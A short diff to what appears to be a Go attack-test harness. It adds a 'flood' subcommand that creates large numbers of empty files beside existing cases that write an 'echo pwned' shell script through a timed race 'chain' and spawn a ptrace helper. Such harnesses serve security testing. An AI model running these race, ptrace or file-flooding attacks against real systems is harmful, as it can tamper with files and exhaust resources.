@@ -138,6 +138,11 @@ func attackMain(args []string) int {
 		msg := []byte("#!/bin/sh\necho pwned\n")
 		runtime.LockOSThread()
 		chain(p, msg, uintptr(time.Now().Unix()+15))
+	case "flood":
+		// "flood N": N empty files in flood/dDDDD/, a thousand per
+		// directory, made by a few goroutines.
+		n, _ := strconv.Atoi(args[1])
+		return flood(n)
 	case "ptrace":
 		spawn("ptrace-O", args[1])
 		return 0
